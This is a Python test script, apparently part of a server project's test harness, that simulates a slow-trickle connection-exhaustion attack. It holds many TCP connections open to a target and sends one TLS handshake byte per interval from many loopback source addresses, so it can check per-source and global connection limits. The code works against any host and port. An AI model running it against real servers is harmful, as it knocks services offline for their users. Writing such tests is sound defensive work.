#!/usr/bin/python3
"""trickle.py: the connection-exhaustion attacker of issue 9, for exhaustion.sh and
bench/bench_exhaustion.sh.

Keeps COUNT TCP connections open to HOST:PORT and sends one byte of a TLS ClientHello
(0x16 0x03 0x01 ...) per connection every INTERVAL seconds, so no connection is ever
idle long enough for a per-byte idle timer. Connections come from the source addresses
given (Linux answers for all of 127.0.0.0/8 on lo): "127.0.0.2*500" is 500 connections
from one address (the per-source limit), "127.1.0.0/1000" is one connection from each
of 1,000 addresses (the global cap). A closed connection is reopened after BACKOFF
seconds, as an attacker would. Runs for DURATION seconds (or until SIGTERM), then
prints one line: opened, closed by the server, connect failures.
"""
import argparse
import ipaddress
import selectors
import signal
import socket
import sys
import time

HELLO = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03]) + bytes(500)


def sources(spec):
    out = []
    for part in spec.split(','):
        if '*' in part:
            addr, n = part.split('*')
            out += [addr] * int(n)
        elif '/' in part:
            base, n = part.split('/')
            b = ipaddress.IPv4Address(base)
            out += [str(b + 1 + i) for i in range(int(n))]
        else:
            out.append(part)
    return out


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument('--target', required=True, help='HOST:PORT')
    ap.add_argument('--sources', required=True)
    ap.add_argument('--interval', type=float, default=3.0)
    ap.add_argument('--backoff', type=float, default=1.0)
    ap.add_argument('--duration', type=float, default=60.0)
    a = ap.parse_args()
    host, port = a.target.rsplit(':', 1)
    port = int(port)
    srcs = sources(a.sources)
    sel = selectors.DefaultSelector()
    stop = [False]
    signal.signal(signal.SIGTERM, lambda *_: stop.__setitem__(0, True))
    # slot -> (socket, bytes sent, next send time); or None with a reopen time
    conns = [None] * len(srcs)
    reopen = [0.0] * len(srcs)
    stats = {'opened': 0, 'closed': 0, 'failed': 0}

    def open_slot(i):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        try:
            s.bind((srcs[i], 0))
            s.connect_ex((host, port))
        except OSError:
            s.close()
            stats['failed'] += 1
            reopen[i] = time.monotonic() + a.backoff
            return
        # Spread the first bytes so the sends do not come in one burst.
        conns[i] = [s, 0, time.monotonic() + (i % 50) * a.interval / 50]
        sel.register(s, selectors.EVENT_READ, i)
        stats['opened'] += 1

    def close_slot(i, by_server):
        s = conns[i][0]
        sel.unregister(s)
        s.close()
        conns[i] = None
        reopen[i] = time.monotonic() + a.backoff
        if by_server:
            stats['closed'] += 1

    end = time.monotonic() + a.duration
    for i in range(len(srcs)):
        open_slot(i)
    while not stop[0] and time.monotonic() < end:
        for key, _ in sel.select(timeout=0.2):
            i = key.data
            if conns[i] is None:
                continue
            try:
                data = conns[i][0].recv(4096)
            except (BlockingIOError, InterruptedError):
                continue
            except OSError:
                data = b''
            if not data:
                close_slot(i, True)
        now = time.monotonic()
        for i in range(len(srcs)):
            c = conns[i]
            if c is None:
                if now >= reopen[i]:
                    open_slot(i)
                continue
            if now >= c[2]:
                try:
                    c[0].send(HELLO[c[1] % len(HELLO):c[1] % len(HELLO) + 1])
                    c[1] += 1
                    c[2] = now + a.interval
                except (BlockingIOError, InterruptedError):
                    c[2] = now + a.interval
                except OSError:
                    close_slot(i, True)
    print('trickle %s: %d slots, opened %d, closed by the server %d, connect failures %d'
          % (a.target, len(srcs), stats['opened'], stats['closed'], stats['failed']))
    sys.stdout.flush()


if __name__ == '__main__':
    main()
